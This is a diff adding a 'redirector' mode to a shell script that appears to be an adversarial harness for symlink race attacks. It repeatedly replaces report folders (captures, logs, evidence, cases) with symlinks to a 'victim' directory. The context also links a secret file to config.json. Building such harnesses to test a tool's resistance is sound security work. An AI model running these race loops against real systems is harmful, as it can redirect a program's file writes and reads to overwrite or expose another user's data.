@@ -40,6 +40,19 @@ planter)
         ln -sf "$secret" "$HOME/../config.json" 2>/dev/null
         sleep 0.3
     done ;;
+redirector)
+    # Folders of the reports, and these themselves, become links to a folder of the user.
+    while :; do
+        for folder in "$reports/captures" "$reports/logs" "$reports/evidence" "$reports/cases" "$reports"; do
+            [ -L "$folder" ] && continue
+            mv "$folder" "$folder.moved" 2>/dev/null && ln -sn "${secret%/*}/victim" "$folder" 2>/dev/null
+        done
+        for folder in $(around d); do
+            mv "$folder" "$folder.moved" 2>/dev/null \
+                && ln -sn "${secret%/*}/victim" "$folder" 2>/dev/null
+        done
+        sleep 0.1
+    done ;;
 neighbour)
     sleep 0.5
     for file in $(around f); do
